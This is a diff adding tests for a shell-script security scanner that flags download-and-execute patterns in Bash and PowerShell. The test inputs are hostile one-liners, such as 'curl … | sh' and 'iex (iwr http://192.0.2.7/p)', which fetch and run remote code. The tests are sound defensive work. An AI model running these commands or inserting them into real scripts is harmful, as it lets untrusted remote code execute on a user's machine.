@@ -249,3 +249,26 @@ def test_giant_pipelines_keep_their_ends(policy: HostPolicy) -> None:
     assert len(defused) == len(src) and defused.count("\n") == 1
     assert defused.startswith("curl -s http://192.0.2.9/x |") and defused.endswith("| sh\necho next")
     assert {d.rule_id for d in scan_bash(src, policy)} == {DELIVERY}
+
+
+def test_powershell_repeats_replay_only_in_the_same_state(policy: HostPolicy) -> None:
+    src = (
+        "Start-Process C:\\t\\a.exe\n"  # nothing downloaded yet
+        "iex (iwr $u)\n"  # $u not known yet: a URL computed at run time
+        "$u = 'http://192.0.2.7/p'\n"
+        "Invoke-WebRequest -Uri https://setup.example.net/a.exe -OutFile C:\\t\\a.exe\n"
+    ) * 2
+    found = sorted((d.line, d.rule_id) for d in scan_powershell(src, policy))
+    assert found == [(2, UNDECLARED), (5, UNDECLARED), (6, DELIVERY)]
+
+
+def test_powershell_nested_blocks_keep_tree_order_and_lines(policy: HostPolicy) -> None:
+    block = "& { $u = 'http://192.0.2.7/p' }\niex (iwr $u)\n"
+    found = sorted((d.line, d.rule_id) for d in scan_powershell(block * 3, policy))
+    # a statement list's own statements are analysed before what nests in them: no `iex` knows $u
+    assert found == [(2, UNDECLARED), (4, UNDECLARED), (6, UNDECLARED)]
+
+
+def test_powershell_repeats_are_counted_past_the_listing_cap(policy: HostPolicy) -> None:
+    found = scan_powershell("iex (iwr http://192.0.2.7/p)\n" * 50, policy)
+    assert [d.line for d in found] == list(range(1, 21)) and found[-1].more == 30
